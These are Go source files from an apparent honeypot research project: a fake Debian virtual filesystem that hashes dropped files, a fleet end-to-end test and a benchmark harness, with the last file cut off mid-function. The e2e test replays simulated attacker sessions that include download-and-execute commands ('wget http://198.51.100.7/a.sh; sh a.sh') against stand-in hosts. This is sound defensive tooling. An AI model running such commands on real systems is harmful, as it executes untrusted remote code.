	if err := fs.WriteFile("/tmp", []byte("x")); !errors.Is(err, ErrIsDir) {
		t.Errorf("err = %v", err)
	}
	if _, err := fs.ReadFile("/tmp"); !errors.Is(err, ErrIsDir) {
		t.Errorf("err = %v", err)
	}
}

func BenchmarkNewSeededFS(b *testing.B) {
	for i := 0; i < b.N; i++ {
		New()
	}
}
