// Package vfs provides the copy-on-write virtual filesystem behind the
// emulated honeypot shell. It tracks file creations, modifications, and
// deletions, and records a SHA-256 hash for every file content written —
// mirroring how the honeynet in the paper records hashes of dropped
// malware rather than the files themselves.
package vfs

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"path"
	"sort"
	"strings"
	"time"
)

// Common errors, matching Unix errno semantics the shell surfaces.
var (
	ErrNotExist   = errors.New("no such file or directory")
	ErrIsDir      = errors.New("is a directory")
	ErrNotDir     = errors.New("not a directory")
	ErrExist      = errors.New("file exists")
	ErrPermission = errors.New("permission denied")
)

// Node is a file or directory in the virtual filesystem.
type Node struct {
	Name     string
	Dir      bool
	Mode     uint32
	Size     int64
	ModTime  time.Time
	Content  []byte
	Children map[string]*Node

	// Hash is the hex SHA-256 of Content for regular files with content.
	Hash string
}

// ChangeKind labels a mutation to the filesystem.
type ChangeKind int

// Change kinds.
const (
	ChangeCreate ChangeKind = iota
	ChangeModify
	ChangeDelete
	ChangeChmod
)

// String names the change kind.
func (k ChangeKind) String() string {
	switch k {
	case ChangeCreate:
		return "create"
	case ChangeModify:
		return "modify"
	case ChangeDelete:
		return "delete"
	case ChangeChmod:
		return "chmod"
	default:
		return "unknown"
	}
}

// Change records one mutation: the honeypot uses the change log to decide
// whether a session altered system state and to collect dropped-file
// hashes.
type Change struct {
	Kind ChangeKind
	Path string
	// Hash is set for create/modify of regular files.
	Hash string
	Size int64
}

// FS is a virtual filesystem rooted at "/". It is not safe for concurrent
// use; each honeypot session gets its own FS instance.
type FS struct {
	root    *Node
	cwd     string
	changes []Change
}

// New returns a filesystem pre-populated with the honeypot's fake Debian
// layout (the same directories Cowrie fakes).
func New() *FS {
	fs := &FS{
		root: &Node{Name: "/", Dir: true, Mode: 0o755, Children: map[string]*Node{}},
		cwd:  "/root",
	}
	base := time.Date(2021, 11, 14, 3, 21, 0, 0, time.UTC)
	for _, d := range []string{
		"/bin", "/boot", "/dev", "/etc", "/etc/init.d", "/home", "/lib",
		"/mnt", "/opt", "/proc", "/root", "/run", "/sbin", "/srv", "/sys",
		"/tmp", "/usr", "/usr/bin", "/usr/sbin", "/var", "/var/run",
		"/var/tmp", "/var/spool", "/var/spool/cron",
	} {
		fs.mkdirAllInternal(d, base)
	}
	seed := map[string]string{
		"/etc/hostname":    "svr04\n",
		"/etc/passwd":      "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\nsshd:x:104:65534::/run/sshd:/usr/sbin/nologin\n",
		"/etc/shadow":      "root:$6$mZ1t0Yy1$Y:18000:0:99999:7:::\n",
		"/etc/hosts":       "127.0.0.1\tlocalhost\n127.0.1.1\tsvr04\n",
		"/etc/hosts.deny":  "",
		"/etc/issue":       "Debian GNU/Linux 11 \\n \\l\n",
		"/etc/resolv.conf": "nameserver 8.8.8.8\n",
		"/etc/crontab":     "# /etc/crontab: system-wide crontab\nSHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n",
		"/proc/cpuinfo": "processor\t: 0\nvendor_id\t: GenuineIntel\ncpu family\t: 6\nmodel\t\t: 79\nmodel name\t: Intel(R) Xeon(R) CPU E5-2686 v4 @ 2.30GHz\ncpu MHz\t\t: 2299.914\ncache size\t: 46080 KB\n" +
			"processor\t: 1\nvendor_id\t: GenuineIntel\ncpu family\t: 6\nmodel\t\t: 79\nmodel name\t: Intel(R) Xeon(R) CPU E5-2686 v4 @ 2.30GHz\ncpu MHz\t\t: 2299.914\ncache size\t: 46080 KB\n",
		"/proc/meminfo":        "MemTotal:        2048000 kB\nMemFree:         1576000 kB\nMemAvailable:    1720000 kB\nBuffers:           64000 kB\nCached:           256000 kB\n",
		"/proc/version":        "Linux version 5.10.0-8-amd64 (debian-kernel@lists.debian.org) (gcc-10 (Debian 10.2.1-6) 10.2.1 20210110) #1 SMP Debian 5.10.46-4 (2021-08-03)\n",
		"/proc/uptime":         "1024806.31 2044972.04\n",
		"/proc/mounts":         "/dev/sda1 / ext4 rw,relatime,errors=remount-ro 0 0\nproc /proc proc rw,nosuid,nodev,noexec,relatime 0 0\n",
		"/proc/self/exe":       "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00",
		"/root/.bash_history":  "",
		"/var/run/sshd.pid":    "612\n",
		"/bin/busybox":         "\x7fELF\x02\x01\x01\x00busybox-stub",
		"/bin/bash":            "\x7fELF\x02\x01\x01\x00bash-stub",
		"/bin/sh":              "\x7fELF\x02\x01\x01\x00sh-stub",
		"/usr/bin/wget":        "\x7fELF\x02\x01\x01\x00wget-stub",
		"/usr/bin/curl":        "\x7fELF\x02\x01\x01\x00curl-stub",
		"/usr/bin/perl":        "\x7fELF\x02\x01\x01\x00perl-stub",
		"/usr/bin/python3":     "\x7fELF\x02\x01\x01\x00python3-stub",
		"/etc/init.d/ssh":      "#!/bin/sh\n# ssh init script\n",
		"/root/.ssh/.keep":     "",
		"/etc/ssh/sshd_config": "PermitRootLogin yes\nPasswordAuthentication yes\n",
	}
	// Ensure parent dirs for seeded files exist.
	for p := range seed {
		fs.mkdirAllInternal(path.Dir(p), base)
	}
	keys := make([]string, 0, len(seed))
	for p := range seed {
		keys = append(keys, p)
	}
	sort.Strings(keys)
	for _, p := range keys {
		fs.writeInternal(p, []byte(seed[p]), base)
	}
	fs.changes = nil // seeding is not attacker activity
	return fs
}

// hashBytes returns the hex SHA-256 of b.
func hashBytes(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// Cwd returns the current working directory.
func (fs *FS) Cwd() string { return fs.cwd }

// Chdir changes the working directory.
func (fs *FS) Chdir(p string) error {
	abs := fs.Abs(p)
	n := fs.lookup(abs)
	if n == nil {
		return fmt.Errorf("%s: %w", p, ErrNotExist)
	}
	if !n.Dir {
		return fmt.Errorf("%s: %w", p, ErrNotDir)
	}
	fs.cwd = abs
	return nil
}

// Abs resolves p against the working directory and cleans it.
func (fs *FS) Abs(p string) string {
	if p == "" {
		return fs.cwd
	}
	if strings.HasPrefix(p, "~") {
		p = "/root" + p[1:]
	}
	if !strings.HasPrefix(p, "/") {
		p = path.Join(fs.cwd, p)
	}
	return path.Clean(p)
}

// lookup returns the node at absolute path p, or nil.
func (fs *FS) lookup(p string) *Node {
	if p == "/" {
		return fs.root
	}
	parts := strings.Split(strings.Trim(p, "/"), "/")
	n := fs.root
	for _, part := range parts {
		if !n.Dir {
			return nil
		}
		c, ok := n.Children[part]
		if !ok {
			return nil
		}
		n = c
	}
	return n
}

// Stat returns the node at p (relative paths resolved against cwd).
func (fs *FS) Stat(p string) (*Node, error) {
	n := fs.lookup(fs.Abs(p))
	if n == nil {
		return nil, fmt.Errorf("%s: %w", p, ErrNotExist)
	}
	return n, nil
}

// Exists reports whether p exists.
func (fs *FS) Exists(p string) bool {
	return fs.lookup(fs.Abs(p)) != nil
}

// ReadFile returns the content of the file at p.
func (fs *FS) ReadFile(p string) ([]byte, error) {
	n := fs.lookup(fs.Abs(p))
	if n == nil {
		return nil, fmt.Errorf("%s: %w", p, ErrNotExist)
	}
	if n.Dir {
		return nil, fmt.Errorf("%s: %w", p, ErrIsDir)
	}
	return n.Content, nil
}

// List returns the children of the directory at p, sorted by name.
func (fs *FS) List(p string) ([]*Node, error) {
	n := fs.lookup(fs.Abs(p))
	if n == nil {
		return nil, fmt.Errorf("%s: %w", p, ErrNotExist)
	}
	if !n.Dir {
		return []*Node{n}, nil
	}
	names := make([]string, 0, len(n.Children))
	for name := range n.Children {
		names = append(names, name)
	}
	sort.Strings(names)
	out := make([]*Node, len(names))
	for i, name := range names {
		out[i] = n.Children[name]
	}
	return out, nil
}

// Mkdir creates a single directory.
func (fs *FS) Mkdir(p string) error {
	abs := fs.Abs(p)
	if fs.lookup(abs) != nil {
		return fmt.Errorf("%s: %w", p, ErrExist)
	}
	parent := fs.lookup(path.Dir(abs))
	if parent == nil {
		return fmt.Errorf("%s: %w", path.Dir(p), ErrNotExist)
	}
	if !parent.Dir {
		return fmt.Errorf("%s: %w", path.Dir(p), ErrNotDir)
	}
	parent.Children[path.Base(abs)] = &Node{
		Name: path.Base(abs), Dir: true, Mode: 0o755,
		ModTime: time.Now(), Children: map[string]*Node{},
	}
	fs.changes = append(fs.changes, Change{Kind: ChangeCreate, Path: abs})
	return nil
}

// MkdirAll creates p and any missing parents.
func (fs *FS) MkdirAll(p string) error {
	abs := fs.Abs(p)
	if n := fs.lookup(abs); n != nil {
		if n.Dir {
			return nil
		}
		return fmt.Errorf("%s: %w", p, ErrNotDir)
	}
	fs.mkdirAllInternal(abs, time.Now())
	fs.changes = append(fs.changes, Change{Kind: ChangeCreate, Path: abs})
	return nil
}

func (fs *FS) mkdirAllInternal(p string, when time.Time) {
	if p == "/" {
		return
	}
	parts := strings.Split(strings.Trim(p, "/"), "/")
	n := fs.root
	for _, part := range parts {
		c, ok := n.Children[part]
		if !ok {
			c = &Node{Name: part, Dir: true, Mode: 0o755, ModTime: when, Children: map[string]*Node{}}
			n.Children[part] = c
		}
		n = c
	}
}

// WriteFile creates or replaces the file at p with content, recording the
// change and the content hash.
func (fs *FS) WriteFile(p string, content []byte) error {
	abs := fs.Abs(p)
	if n := fs.lookup(abs); n != nil && n.Dir {
		return fmt.Errorf("%s: %w", p, ErrIsDir)
	}
	kind := ChangeModify
	if fs.lookup(abs) == nil {
		kind = ChangeCreate
	}
	if err := fs.writeInternal(abs, content, time.Now()); err != nil {
		return err
	}
	fs.changes = append(fs.changes, Change{Kind: kind, Path: abs, Hash: hashBytes(content), Size: int64(len(content))})
	return nil
}

// AppendFile appends content to the file at p, creating it if needed.
func (fs *FS) AppendFile(p string, content []byte) error {
	abs := fs.Abs(p)
	existing, err := fs.ReadFile(abs)
	if err != nil && !errors.Is(err, ErrNotExist) {
		return err
	}
	return fs.WriteFile(abs, append(append([]byte{}, existing...), content...))
}

func (fs *FS) writeInternal(p string, content []byte, when time.Time) error {
	parent := fs.lookup(path.Dir(p))
	if parent == nil || !parent.Dir {
		return fmt.Errorf("%s: %w", path.Dir(p), ErrNotExist)
	}
	name := path.Base(p)
	n, ok := parent.Children[name]
	if !ok {
		n = &Node{Name: name, Mode: 0o644}
		parent.Children[name] = n
	}
	if n.Dir {
		return fmt.Errorf("%s: %w", p, ErrIsDir)
	}
	n.Content = append([]byte(nil), content...)
	n.Size = int64(len(content))
	n.ModTime = when
	n.Hash = hashBytes(content)
	return nil
}

// Remove deletes the node at p. Directories are removed recursively when
// recursive is true, otherwise only if empty.
func (fs *FS) Remove(p string, recursive bool) error {
	abs := fs.Abs(p)
	if abs == "/" {
		return fmt.Errorf("/: %w", ErrPermission)
	}
	n := fs.lookup(abs)
	if n == nil {
		return fmt.Errorf("%s: %w", p, ErrNotExist)
	}
	if n.Dir && !recursive && len(n.Children) > 0 {
		return fmt.Errorf("%s: directory not empty", p)
	}
	parent := fs.lookup(path.Dir(abs))
	delete(parent.Children, path.Base(abs))
	fs.changes = append(fs.changes, Change{Kind: ChangeDelete, Path: abs})
	return nil
}

// Chmod updates the mode bits of the node at p.
func (fs *FS) Chmod(p string, mode uint32) error {
	n := fs.lookup(fs.Abs(p))
	if n == nil {
		return fmt.Errorf("%s: %w", p, ErrNotExist)
	}
	n.Mode = mode
	fs.changes = append(fs.changes, Change{Kind: ChangeChmod, Path: fs.Abs(p)})
	return nil
}

// Rename moves the node at old to new.
func (fs *FS) Rename(oldp, newp string) error {
	absOld := fs.Abs(oldp)
	absNew := fs.Abs(newp)
	n := fs.lookup(absOld)
	if n == nil {
		return fmt.Errorf("%s: %w", oldp, ErrNotExist)
	}
	newParent := fs.lookup(path.Dir(absNew))
	if newParent == nil || !newParent.Dir {
		return fmt.Errorf("%s: %w", path.Dir(newp), ErrNotExist)
	}
	// Moving onto an existing directory places the node inside it.
	if dst := fs.lookup(absNew); dst != nil && dst.Dir {
		absNew = path.Join(absNew, path.Base(absOld))
		newParent = dst
	}
	oldParent := fs.lookup(path.Dir(absOld))
	delete(oldParent.Children, path.Base(absOld))
	n.Name = path.Base(absNew)
	newParent.Children[n.Name] = n
	fs.changes = append(fs.changes,
		Change{Kind: ChangeDelete, Path: absOld},
		Change{Kind: ChangeCreate, Path: absNew, Hash: n.Hash, Size: n.Size})
	return nil
}

// Changes returns the attacker-visible mutation log.
func (fs *FS) Changes() []Change { return fs.changes }

// Changed reports whether any mutation occurred.
func (fs *FS) Changed() bool { return len(fs.changes) > 0 }

// DroppedHashes returns the distinct content hashes of files created or
// modified, in first-seen order — what the honeynet database stores per
// session.
func (fs *FS) DroppedHashes() []string {
	seen := map[string]bool{}
	var out []string
	for _, c := range fs.changes {
		if (c.Kind == ChangeCreate || c.Kind == ChangeModify) && c.Hash != "" && !seen[c.Hash] {
			seen[c.Hash] = true
			out = append(out, c.Hash)
		}
	}
	return out
}

// HashOf returns the content hash of the file at p, if it exists.
func (fs *FS) HashOf(p string) (string, bool) {
	n := fs.lookup(fs.Abs(p))
	if n == nil || n.Dir {
		return "", false
	}
	return n.Hash, true
}

// HashBytes returns the hex SHA-256 of b — the same hash the filesystem
// records for file contents.
func HashBytes(b []byte) string { return hashBytes(b) }

// ChangeCount returns the length of the change log; use it as a
// checkpoint for ChangesSince when a filesystem persists across
// sessions.
func (fs *FS) ChangeCount() int { return len(fs.changes) }

// ChangesSince returns the mutations recorded after the checkpoint n.
func (fs *FS) ChangesSince(n int) []Change {
	if n < 0 || n > len(fs.changes) {
		return nil
	}
	return fs.changes[n:]
}
