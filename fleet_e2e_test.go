package honeynet

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"honeynet/internal/fleet"
	"honeynet/internal/sshclient"
	"honeynet/internal/store"
)

// TestHelperFleetEdge is not a real test: it is the body of the
// killable edge subprocess for TestFleetE2EByteIdentity. The parent
// re-execs the test binary with FLEET_EDGE_HELPER=1 so SIGKILL hits a
// real process — in-process "crashes" cannot exercise WAL recovery or
// the forwarder's flush-before-forward invariant.
func TestHelperFleetEdge(t *testing.T) {
	if os.Getenv("FLEET_EDGE_HELPER") != "1" {
		t.Skip("subprocess body for the fleet e2e test")
	}
	delay, err := time.ParseDuration(os.Getenv("FLEET_EDGE_DELAY"))
	if err != nil {
		fmt.Fprintf(os.Stderr, "helper: FLEET_EDGE_DELAY: %v\n", err)
		os.Exit(2)
	}
	var recorded atomic.Int64
	countFile := os.Getenv("FLEET_EDGE_COUNTFILE")
	srv, err := Serve(ServeConfig{
		SSHAddr:         "127.0.0.1:0",
		StorePath:       os.Getenv("FLEET_EDGE_STORE"),
		ForwardAddr:     os.Getenv("FLEET_EDGE_FORWARD"),
		ForwardNodeID:   "edge-c",
		ForwardMaxDelay: delay,
		Timeout:         10 * time.Second,
		DrainTimeout:    15 * time.Second,
		OnRecord: func(r *Record) {
			n := recorded.Add(1)
			_ = os.WriteFile(countFile, []byte(strconv.FormatInt(n, 10)), 0o644)
		},
	})
	if err != nil {
		fmt.Fprintf(os.Stderr, "helper: serve: %v\n", err)
		os.Exit(2)
	}
	// Publish the SSH address atomically; the parent polls for the file.
	addrFile := os.Getenv("FLEET_EDGE_ADDRFILE")
	if err := os.WriteFile(addrFile+".tmp", []byte(srv.SSHAddr()), 0o644); err != nil {
		os.Exit(2)
	}
	if err := os.Rename(addrFile+".tmp", addrFile); err != nil {
		os.Exit(2)
	}
	// Serve until SIGTERM (the t.Run test timeout is the backstop), then
	// drain: the facade waits for the collector to ack everything local.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM)
	<-sig
	if _, err := srv.Drain("helper-shutdown"); err != nil {
		fmt.Fprintf(os.Stderr, "helper: drain: %v\n", err)
		os.Exit(2)
	}
	os.Exit(0)
}

// sshSession drives one SSH session with one exec round trip.
func sshSession(t *testing.T, addr, cmd string) {
	t.Helper()
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec(cmd); err != nil {
		t.Fatal(err)
	}
	cli.Close()
}

// telnetSession drives one scripted Telnet login + command + exit.
func telnetSession(t *testing.T, addr, cmd string) {
	t.Helper()
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(10 * time.Second))
	readUntil := func(marker string) {
		var buf bytes.Buffer
		tmp := make([]byte, 256)
		for !strings.Contains(buf.String(), marker) {
			n, err := nc.Read(tmp)
			if n > 0 {
				for _, b := range tmp[:n] {
					if b < 0xf0 {
						buf.WriteByte(b)
					}
				}
			}
			if err != nil {
				return
			}
		}
	}
	readUntil("login: ")
	nc.Write([]byte("root\r\n"))
	readUntil("Password: ")
	nc.Write([]byte("hunter2\r\n"))
	readUntil("# ")
	nc.Write([]byte(cmd + "\r\n"))
	readUntil("# ")
	nc.Write([]byte("exit\r\n"))
}

// waitFile polls until path exists and returns its contents.
func waitFile(t *testing.T, path string, timeout time.Duration) string {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		b, err := os.ReadFile(path)
		if err == nil && len(b) > 0 {
			return string(b)
		}
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", path)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// waitCount polls the helper's record-count file until it reaches want.
func waitCount(t *testing.T, path string, want int, timeout time.Duration) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		if b, err := os.ReadFile(path); err == nil {
			if n, _ := strconv.Atoi(string(b)); n >= want {
				return
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %d records in %s", want, path)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// waitLocalRecords polls a store directory read-only until it holds at
// least want records on disk. The WAL sync cadence (Options.SyncEvery,
// 1s by default) bounds how long freshly appended records sit in the
// writer's buffer before they become visible here.
func waitLocalRecords(t *testing.T, dir string, want uint64, timeout time.Duration) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		st, err := store.Open(dir, store.Options{ReadOnly: true})
		if err == nil {
			n := st.NextSeq()
			st.Close()
			if n >= want {
				return
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %d durable records in %s (err %v)", want, dir, err)
		}
		time.Sleep(25 * time.Millisecond)
	}
}

// startHelperEdge launches the killable edge subprocess and waits for
// its SSH address.
func startHelperEdge(t *testing.T, storeDir, forward, addrFile, countFile string, delay time.Duration) (*exec.Cmd, string) {
	t.Helper()
	os.Remove(addrFile)
	os.Remove(countFile)
	cmd := exec.Command(os.Args[0], "-test.run", "^TestHelperFleetEdge$", "-test.v")
	cmd.Env = append(os.Environ(),
		"FLEET_EDGE_HELPER=1",
		"FLEET_EDGE_STORE="+storeDir,
		"FLEET_EDGE_FORWARD="+forward,
		"FLEET_EDGE_ADDRFILE="+addrFile,
		"FLEET_EDGE_COUNTFILE="+countFile,
		"FLEET_EDGE_DELAY="+delay.String(),
	)
	cmd.Stdout = os.Stderr
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	addr := waitFile(t, addrFile, 20*time.Second)
	return cmd, addr
}

// shardLines reads every canonical record line of a store in sequence
// order.
func shardLines(t *testing.T, st *store.Store) []string {
	t.Helper()
	var out []string
	cur := st.ScanSeq(0)
	defer cur.Close()
	for cur.Next() {
		out = append(out, string(cur.Line()))
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// assertShardMatchesLocal checks one collector shard holds exactly the
// edge's local records, byte for byte.
func assertShardMatchesLocal(t *testing.T, fleetDir, node, localDir string) int {
	t.Helper()
	shard, err := store.Open(store.ShardDir(fleetDir, node), store.Options{ReadOnly: true})
	if err != nil {
		t.Fatalf("open shard %s: %v", node, err)
	}
	defer shard.Close()
	local, err := store.Open(localDir, store.Options{ReadOnly: true})
	if err != nil {
		t.Fatalf("open local %s: %v", node, err)
	}
	defer local.Close()
	got, want := shardLines(t, shard), shardLines(t, local)
	if len(got) != len(want) {
		t.Fatalf("node %s: collector has %d records, edge has %d", node, len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("node %s record %d differs:\n collector %s\n edge      %s", node, i, got[i], want[i])
		}
	}
	return len(want)
}

// TestFleetE2EByteIdentity is the fleet acceptance test: three edges —
// two in-process, one a real subprocess that gets kill -9'd mid-stream
// and restarted — forward scripted SSH and Telnet sessions to an
// in-process collector. Afterwards every collector shard must equal its
// edge's local store byte for byte, and the full analysis suite over
// the fleet directory must be byte-identical to the same session set in
// a single-node store.
func TestFleetE2EByteIdentity(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-process e2e")
	}
	base := t.TempDir()
	fleetDir := filepath.Join(base, "fleet")
	collector, err := fleet.NewServer(fleetDir, fleet.ServerOptions{SyncAck: true})
	if err != nil {
		t.Fatal(err)
	}
	defer collector.Close()
	caddr, err := collector.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}

	// Two in-process edges, SSH + Telnet.
	dirs := map[string]string{
		"edge-a": filepath.Join(base, "edge-a"),
		"edge-b": filepath.Join(base, "edge-b"),
		"edge-c": filepath.Join(base, "edge-c"),
	}
	var edges []*Server
	for _, node := range []string{"edge-a", "edge-b"} {
		srv, err := Serve(ServeConfig{
			SSHAddr:         "127.0.0.1:0",
			TelnetAddr:      "127.0.0.1:0",
			StorePath:       dirs[node],
			ForwardAddr:     caddr.String(),
			ForwardNodeID:   node,
			ForwardMaxDelay: 2 * time.Millisecond,
			Timeout:         10 * time.Second,
			DrainTimeout:    15 * time.Second,
		})
		if err != nil {
			t.Fatal(err)
		}
		defer srv.Close()
		edges = append(edges, srv)
	}
	for i, cmd := range []string{
		"uname -a",
		"wget http://198.51.100.7/a.sh; sh a.sh",
		"cat /proc/cpuinfo",
		"echo hi",
	} {
		sshSession(t, edges[0].SSHAddr(), cmd)
		if i < 3 {
			sshSession(t, edges[1].SSHAddr(), cmd+" # b")
		}
	}
	telnetSession(t, edges[0].TelnetAddr(), "uname")
	telnetSession(t, edges[1].TelnetAddr(), "free -m")
	telnetSession(t, edges[1].TelnetAddr(), "wget http://198.51.100.9/t.sh")

	// The killable edge: a real subprocess whose forwarder lingers, so
	// its records are durable locally but not yet at the collector when
	// SIGKILL lands.
	addrFile := filepath.Join(base, "edge-c.addr")
	countFile := filepath.Join(base, "edge-c.count")
	cmd, addrC := startHelperEdge(t, dirs["edge-c"], caddr.String(), addrFile, countFile, time.Hour)
	t.Cleanup(func() {
		if cmd.Process != nil {
			cmd.Process.Kill()
			cmd.Wait()
		}
	})
	for i := 0; i < 3; i++ {
		sshSession(t, addrC, fmt.Sprintf("wget http://198.51.100.7/c%d.sh; sh c%d.sh", i, i))
	}
	waitCount(t, countFile, 3, 20*time.Second)
	// Wait until the helper's WAL holds all three records on disk — once
	// the parent can read them from the filesystem, SIGKILL cannot lose
	// them (only the page cache holds unsynced writes, and it survives
	// the process). Then kill -9 while the forwarder is still lingering.
	waitLocalRecords(t, dirs["edge-c"], 3, 20*time.Second)
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	cmd.Wait()

	// Restart over the same store: WAL recovery plus resume from the
	// collector's cursor must deliver the pre-kill sessions exactly once.
	cmd2, addrC2 := startHelperEdge(t, dirs["edge-c"], caddr.String(), addrFile, countFile, 2*time.Millisecond)
	for i := 3; i < 6; i++ {
		sshSession(t, addrC2, fmt.Sprintf("wget http://198.51.100.7/c%d.sh; sh c%d.sh", i, i))
	}
	waitCount(t, countFile, 3, 20*time.Second) // 3 post-restart records

	// Graceful drains everywhere: each edge waits until the collector
	// acknowledged everything it holds.
	if err := cmd2.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := cmd2.Wait(); err != nil {
		t.Fatalf("helper edge drain failed: %v", err)
	}
	for _, srv := range edges {
		if _, err := srv.Drain("e2e"); err != nil {
			t.Fatal(err)
		}
	}
	if err := collector.Close(); err != nil { // seals every shard
		t.Fatal(err)
	}

	// Every shard is byte-identical to its edge's local store — the
	// kill -9 lost nothing that was acknowledged, duplicated nothing.
	total := 0
	for node, dir := range dirs {
		total += assertShardMatchesLocal(t, fleetDir, node, dir)
	}
	if cTotal := total - 4 - 1 - 3 - 2; cTotal != 6 {
		t.Errorf("edge-c delivered %d records across kill -9, want 6", cTotal)
	}

	// The analysis suite over the fleet directory matches the same
	// session set in a single-node store, byte for byte.
	fl, err := store.OpenFleet(fleetDir, store.Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	recs, err := fl.Load(4)
	if err != nil {
		t.Fatal(err)
	}
	fl.Close()
	if len(recs) != total {
		t.Fatalf("fleet Load returned %d records, want %d", len(recs), total)
	}
	singleDir := filepath.Join(base, "single")
	single, err := store.Open(singleDir, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if err := single.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := single.Close(); err != nil {
		t.Fatal(err)
	}

	ccfg := ClusterConfig{K: 2, SampleSize: 50, Seed: 7}
	var fleetOut, singleOut bytes.Buffer
	for dir, out := range map[string]*bytes.Buffer{fleetDir: &fleetOut, singleDir: &singleOut} {
		p, err := Open(dir, WithWorkers(4))
		if err != nil {
			t.Fatalf("Open(%s): %v", dir, err)
		}
		if err := p.RunAll(out, ccfg); err != nil {
			t.Fatalf("RunAll(%s): %v", dir, err)
		}
	}
	if !bytes.Equal(fleetOut.Bytes(), singleOut.Bytes()) {
		t.Errorf("fleet -fig all output differs from single-node store over the same sessions (fleet %d bytes, single %d bytes)",
			fleetOut.Len(), singleOut.Len())
	}
}
