// Benchmark harness: one benchmark per table and figure of the paper's
// evaluation (see DESIGN.md section 4 for the experiment index), plus
// ablation benches for the design choices called out in DESIGN.md
// section 5. Each figure bench regenerates its experiment over a shared,
// deterministically simulated dataset.
package honeynet

import (
	"bytes"
	"fmt"
	"io"
	"math/rand"
	"net"
	"sync"
	"testing"
	"time"

	"honeynet/internal/analysis"
	"honeynet/internal/asdb"
	"honeynet/internal/botnet"
	"honeynet/internal/classify"
	"honeynet/internal/cluster"
	"honeynet/internal/core"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
	"honeynet/internal/sshwire"
	"honeynet/internal/textdist"
)

var (
	benchOnce  sync.Once
	benchWorld *analysis.World
)

// benchPipeline builds the shared benchmark dataset: the full 33-month
// window at scale 1:10000 (~55k sessions). The returned world is pinned
// to Workers=1 so the per-figure benchmarks measure the serial baseline;
// the *Parallel benchmarks below opt into multicore via withWorkers.
func benchPipeline(b *testing.B) *analysis.World {
	b.Helper()
	benchOnce.Do(func() {
		p, err := core.Simulate(simulate.Config{Scale: 10000, Seed: 42})
		if err != nil {
			panic(err)
		}
		benchWorld = p.World
		benchWorld.Workers = 1
	})
	return benchWorld
}

// withWorkers returns a new world over the same dataset with a
// different worker budget (the dataset and databases stay shared —
// analyzer output is identical for any value). Built field by field
// rather than by struct copy: World carries its matrix-memo lock, and
// each copy deliberately starts with a cold memo so parallel benchmarks
// measure real fills.
func withWorkers(w *analysis.World, n int) *analysis.World {
	return &analysis.World{
		Store:      w.Store,
		Registry:   w.Registry,
		AbuseDB:    w.AbuseDB,
		Classifier: w.Classifier,
		Workers:    n,
		Tracer:     w.Tracer,
	}
}

// ---------- Dataset generation ----------

// BenchmarkSimulateOneMonth measures raw trace-generation throughput:
// one simulated month at scale 1:5000.
func BenchmarkSimulateOneMonth(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := simulate.Run(simulate.Config{
			Scale: 5000,
			Seed:  int64(i),
			End:   botnet.WindowStart.AddDate(0, 1, 0),
		})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(res.Sessions), "sessions/op")
	}
}

// ---------- Section 3.3 ----------

func BenchmarkDatasetStats(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if analysis.Stats(w).Total == 0 {
			b.Fatal("empty stats")
		}
	}
}

// ---------- Figures 1-4, 16, Table 1 (command analyses) ----------

func BenchmarkFig01StateSplit(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig1(w)) == 0 {
			b.Fatal("no rows")
		}
	}
}

func BenchmarkFig02TopScouts(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig2(w).Months) == 0 {
			b.Fatal("no months")
		}
	}
}

func BenchmarkFig03aFileTouch(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig3a(w).Months) == 0 {
			b.Fatal("no months")
		}
	}
}

func BenchmarkFig03bFileExec(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(analysis.Fig3b(w).Months) == 0 {
			b.Fatal("no months")
		}
	}
}

func BenchmarkFig04FileExists(b *testing.B) {
	w := benchPipeline(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f4 := analysis.Fig4(w)
